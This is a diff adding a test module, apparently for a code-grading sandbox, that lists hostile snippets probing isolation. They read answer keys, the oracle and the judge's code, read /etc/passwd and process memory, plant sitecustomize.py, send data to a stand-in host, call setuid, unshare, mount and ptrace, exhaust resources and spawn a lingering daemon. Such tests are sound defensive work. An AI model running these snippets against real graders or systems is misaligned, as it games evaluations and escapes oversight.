@@ -1,0 +1,100 @@
+"""Tricks that reach for what is outside of the jail: answers, the judge, the machine, the network.
+
+Each returns a right result if it got what it reached for. Outside of a jail most do, and pass.
+"""
+
+from __future__ import annotations
+
+from tests.hostile.entry import Trick
+
+_RIGHT = "return honest(q, k, v, **options)"
+_ENDED = ("crash",)
+
+_LIBC = "libc = ctypes.CDLL(None, use_errno=True)\n"
+_REFUSED = "if {call} != 0:\n    raise OSError(ctypes.get_errno(), '{what}')\n"
+
+
+def _reads(what: str, path: str) -> Trick:
+    return Trick(f"reads {what}", f"open('{path}', 'rb').read(1)\n{_RIGHT}")
+
+
+def _writes(what: str, path: str, *verdicts: str) -> Trick:
+    return Trick(f"writes {what}", f"open('{path}', 'w').close()\n{_RIGHT}", verdicts or ("error",))
+
+
+def _calls(name: str, call: str) -> Trick:
+    return Trick(name, f"{_LIBC}{_REFUSED.format(call=call, what=name)}{_RIGHT}")
+
+
+def _takes(name: str, lines: str, *verdicts: str) -> Trick:
+    return Trick(name, f"{lines}{_RIGHT}", verdicts or _ENDED)
+
+
+TRICKS = (
+    _reads("a model answer", "RUN_FOLDER/checkout/solutions/p02/weighted_row_sum.py"),
+    _reads("the oracle", "RUN_FOLDER/checkout/reference/naive.py"),
+    _reads("the judge's code", "RUN_FOLDER/checkout/grader/judge.py"),
+    _reads("a neighbour's file", "RUN_FOLDER/submission/p02/weighted_row_sum.py"),
+    _reads("who has an account", "/etc/passwd"),
+    # These lie in the jail's own /tmp, if it shows their folder; none may be found afterwards.
+    _writes("into the judge's temporary folder", "RUN_FOLDER/tmp/probe", "pass", "error"),
+    _writes("into the checkout", "RUN_FOLDER/checkout/sitecustomize.py", "pass", "error"),
+    _writes("beside the judge's worker", "RUN_FOLDER/checkout/grader/running/probe"),
+    Trick(
+        "writes into Python's packages",
+        f"open(os.path.join(os.path.dirname(torch.__file__), 'probe'), 'w').close()\n{_RIGHT}",
+    ),
+    _writes("into the file system's root", "/probe"),
+    Trick(
+        "reads the judge's memory",
+        "pids = {int(n) for n in os.listdir('/proc') if n.isdigit()} - {1, os.getpid()}\n"
+        f"open(f'/proc/{{min(pids)}}/mem', 'rb').close()\n{_RIGHT}",
+    ),
+    Trick(
+        "sends signals to others",
+        "found = 0\nfor pid in range(2, 40000):\n    try:\n        os.kill(pid, 0)\n"
+        "    except OSError:\n        continue\n    found += pid != os.getpid()\n"
+        f"if not found:\n    raise ProcessLookupError('nobody is there')\n{_RIGHT}",
+    ),
+    Trick(
+        "talks to the network",
+        "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:\n"
+        f"    one.sendto(b'answers', ('192.0.2.1', 9))\n{_RIGHT}",
+    ),
+    _calls("makes a user namespace", "libc.unshare(0x10000000)"),
+    _calls("makes a mount namespace", "libc.unshare(0x00020000)"),
+    _calls("mounts a file system", "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)"),
+    _calls("traces its parent", "libc.ptrace(16, os.getppid(), None, None)"),
+    _calls("lifts its limit of memory", "resource.setrlimit(resource.RLIMIT_AS, (-1, -1)) or 0"),
+    _calls("becomes root", "libc.setuid(0)"),
+    _takes("fills /tmp", "open('/tmp/x', 'wb').write(bytes(512 * 2**20))\n", "error"),
+    _takes("fills its folder", "open('x', 'wb').write(bytes(512 * 2**20))\n", "error"),
+    _takes(
+        "memory, in children",
+        "for _ in range(8):\n    if os.fork() == 0:\n        held = b'x' * (900 * 2**20)\n"
+        "        time.sleep(60)\n        os._exit(0)\ntime.sleep(20)\n",
+        *("crash", "timeout"),  # a machine may need longer for so much
+    ),
+    _takes(
+        "memory without a process",
+        "held = [os.memfd_create('m') for _ in range(12)]\n"
+        "for fd in held:\n    os.posix_fallocate(fd, 0, 512 * 2**20)\ntime.sleep(20)\n",
+    ),
+    _takes(
+        "300 processes",
+        "for _ in range(300):\n    if os.fork() == 0:\n        time.sleep(60)\n"
+        "        os._exit(0)\ntime.sleep(20)\n",
+    ),
+    _takes(
+        "disk, as compiled kernels",
+        "folder = os.environ['TRITON_CACHE_DIR']\nfor n in range(3):\n"
+        "    with open(f'{folder}/{n}', 'wb') as file:\n"
+        "        os.posix_fallocate(file.fileno(), 0, 512 * 2**20)\ntime.sleep(20)\n",
+    ),
+    Trick(
+        "a daemon that outlives it",
+        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(300)\n"
+        f"    os._exit(0)\nos.wait()\n{_RIGHT}",
+        ("pass",),
+    ),
+)
